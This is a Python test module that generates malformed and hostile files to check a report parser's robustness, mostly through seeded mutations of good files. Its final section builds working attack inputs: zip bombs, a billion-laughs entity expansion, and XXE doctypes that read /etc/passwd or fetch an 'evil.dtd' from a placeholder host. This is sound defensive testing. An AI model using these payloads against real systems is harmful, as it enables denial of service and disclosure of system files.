"""Builders of broken and hostile files: seeded mutations of good files, zip bombs, XML entity
attacks, wrong extensions, enormous values, deep nesting, labels in other encodings."""

from __future__ import annotations

import io
import json
import random
import re
import zipfile

# -- mutations of a good file (deterministic for a given rng) ------------------------------------


def truncate(data: bytes, rng: random.Random) -> bytes:
    return data[:rng.randrange(1, len(data))]


def flip_bits(data: bytes, rng: random.Random) -> bytes:
    out = bytearray(data)
    for _ in range(rng.randint(1, 8)):
        i = rng.randrange(len(out))
        out[i] ^= 1 << rng.randrange(8)
    return bytes(out)


def overwrite_run(data: bytes, rng: random.Random) -> bytes:
    out = bytearray(data)
    i = rng.randrange(len(out))
    n = rng.randint(1, 64)
    out[i:i + n] = bytes(rng.choice((0, 0xFF, rng.randrange(256))) for _ in range(n))
    return bytes(out)


NASTY_TEXT = ["１２件", "-5", "1e999", "NaN", "99999999999999999999999999", "—", "无", "", "&amp;", "\u202e12",
              "\x00", "3.14159", "一二三", "2009.54万元", "Infinity", "0x1F", "1,2,3", "‰", "\ufeff7", "🙂"]


def mutate_text(text: str, rng: random.Random) -> str:
    """A structure-aware mutation of XML or JSON text: numbers, labels and markup pieces."""
    choice = rng.randrange(6)
    if choice == 0:  # replace a number with something a clerk or a broken program might write
        spots = [m.span() for m in re.finditer(r"\d+(\.\d+)?", text)]
        if spots:
            a, b = rng.choice(spots)
            return text[:a] + rng.choice(NASTY_TEXT) + text[b:]
    if choice == 1:  # delete a chunk
        a = rng.randrange(len(text))
        return text[:a] + text[a + rng.randint(1, 400):]
    if choice == 2:  # duplicate a chunk somewhere else
        a = rng.randrange(len(text))
        chunk = text[a:a + rng.randint(1, 400)]
        b = rng.randrange(len(text))
        return text[:b] + chunk + text[b:]
    if choice == 3:  # change a Chinese label character
        spots = [m.start() for m in re.finditer(r"[\u4e00-\u9fff]", text)]
        if spots:
            i = rng.choice(spots)
            return text[:i] + chr(rng.randrange(0x4e00, 0x9fff)) + text[i + 1:]
    if choice == 4:  # swap two markup pieces
        tags = [m.span() for m in re.finditer(r"<[^<>]{1,80}>|\"[^\"]{0,40}\"", text)]
        if len(tags) >= 2:
            (a, b), (c, d) = sorted(rng.sample(tags, 2))
            if b <= c:
                return text[:a] + text[c:d] + text[b:c] + text[a:b] + text[d:]
    a = rng.randrange(len(text))  # insert a nasty value
    return text[:a] + rng.choice(NASTY_TEXT) + text[a:]


def rezip(data: bytes, replace: dict[str, bytes]) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            z.writestr(info.filename, replace.get(info.filename, src.read(info.filename)))
    return out.getvalue()


def mutate_zip_member(data: bytes, rng: random.Random) -> bytes:
    """Mutate the XML inside an Office file (so the XML parsers, not just the zip reader, see it)."""
    names = [n for n in zipfile.ZipFile(io.BytesIO(data)).namelist() if n.endswith(".xml") or n.endswith(".rels")]
    important = [n for n in names if re.search(r"document\.xml$|sheet\d+\.xml$|sharedStrings|workbook\.xml$", n)]
    name = rng.choice(important if important and rng.random() < 0.8 else names)
    text = zipfile.ZipFile(io.BytesIO(data)).read(name).decode("utf-8")
    for _ in range(rng.randint(1, 3)):
        text = mutate_text(text, rng)
    return rezip(data, {name: text.encode("utf-8")})


def mutate_json(data: bytes, rng: random.Random) -> bytes:
    """Replace a random node of the JSON document by a value of another type or size."""
    doc = json.loads(data)
    nodes: list[tuple[object, object]] = []

    def walk(node):
        if isinstance(node, dict):
            for k, v in node.items():
                nodes.append((node, k))
                walk(v)
        elif isinstance(node, list):
            for i, v in enumerate(node):
                nodes.append((node, i))
                walk(v)
    walk(doc)
    for _ in range(rng.randint(1, 4)):
        parent, key = rng.choice(nodes)
        parent[key] = rng.choice([None, True, -1, 0, 10 ** 30, -10 ** 20, 1.5, "１２", "12件", "", [], {},
                                  [1, 2], {"table": "三"}, "x" * 1000, "2009.541", "NaN", "1e999", 2 ** 63])
    return json.dumps(doc, ensure_ascii=bool(rng.getrandbits(1))).encode("utf-8")


def mutations(seed_bytes: bytes, kind: str, count: int, seed: int) -> list[tuple[str, bytes]]:
    """``count`` mutated copies of a good file, from a fixed seed."""
    rng = random.Random(seed)
    byte_level = [truncate, flip_bits, overwrite_run]
    out = []
    for i in range(count):
        if kind in ("xlsx", "docx") and rng.random() < 0.5:
            fn = mutate_zip_member
        elif kind in ("json", "native") and rng.random() < 0.4:
            fn = mutate_json if rng.random() < 0.6 else (lambda d, r: mutate_text(d.decode("utf-8"), r).encode("utf-8"))
        else:
            fn = rng.choice(byte_level)
        out.append((f"{kind}#{i}:{getattr(fn, '__name__', 'text')}", fn(seed_bytes, rng)))
    return out


# -- hand-made hostile files -------------------------------------------------------------------


def zip_bomb(template: bytes, member: str, size: int = 768 * 1024 ** 2) -> bytes:
    """``template`` with ``member`` replaced by ``size`` bytes of zeros, compressed (about 1000:1)."""
    src = zipfile.ZipFile(io.BytesIO(template))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            if info.filename != member:
                z.writestr(info.filename, src.read(info.filename))
        with z.open(_deflated(member), "w", force_zip64=True) as f:
            block = b"\0" * (1 << 20)
            for _ in range(size >> 20):
                f.write(block)
    return out.getvalue()


def _deflated(member: str) -> zipfile.ZipInfo:
    """A new member compressed like the rest (a bare ``ZipInfo`` would be stored uncompressed,
    making the "bomb" a file as large as its content, which the size check alone refuses)."""
    info = zipfile.ZipInfo(member)
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def zip_bomb_xml(template: bytes, member: str, size: int = 256 * 1024 ** 2) -> bytes:
    """``member`` stays well-formed XML that opens and then repeats one harmless element."""
    text = zipfile.ZipFile(io.BytesIO(template)).read(member).decode("utf-8")
    head = re.match(r"\s*(<\?xml[^>]*\?>)?\s*<[^!?][^>]*>", text).group(0)  # declaration + root open
    src = zipfile.ZipFile(io.BytesIO(template))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            if info.filename != member:
                z.writestr(info.filename, src.read(info.filename))
        with z.open(_deflated(member), "w", force_zip64=True) as f:
            f.write(head.encode())
            unit = b"<!-- padding -->" * 65536
            for _ in range(size // len(unit)):
                f.write(unit)
    return out.getvalue()


def many_members(template: bytes, n: int = 50_000) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(template))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for info in src.infolist():
            z.writestr(info.filename, src.read(info.filename))
        for i in range(n):
            z.writestr(f"junk/{i}.xml", b"")
    return out.getvalue()


BILLION_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
                  + "]>")
EXTERNAL_FILE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
EXTERNAL_HTTP = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "http://192.0.2.1/evil.dtd">]>'  # TEST-NET: never routed
EXTERNAL_DTD = '<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">'
PARAMETER_ENTITY = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd"> %p;]>'


def with_doctype(template: bytes, member: str, doctype: str, entity: str | None) -> bytes:
    """Put ``doctype`` after the XML declaration of ``member``, and a reference to ``entity``
    into its first text node."""
    text = zipfile.ZipFile(io.BytesIO(template)).read(member).decode("utf-8")
    decl_end = text.index("?>") + 2 if text.startswith("<?xml") else 0
    text = text[:decl_end] + doctype + text[decl_end:]
    if entity:
        m = re.search(r">([^<>\s][^<>]*)</", text)
        if m:
            text = text[:m.start(1)] + f"&{entity};" + text[m.start(1):]
    return rezip(template, {member: text.encode("utf-8")})


def deep_json(depth: int, container: str = "[") -> bytes:
    close = "]" if container == "[" else "}"
    opener = "[" if container == "[" else '{"a":'
    return (b'{"schema":"govreport/1","format":"2021","year":2024,"cells":'
            + opener.encode() * depth + b"1" + close.encode() * depth + b"}")
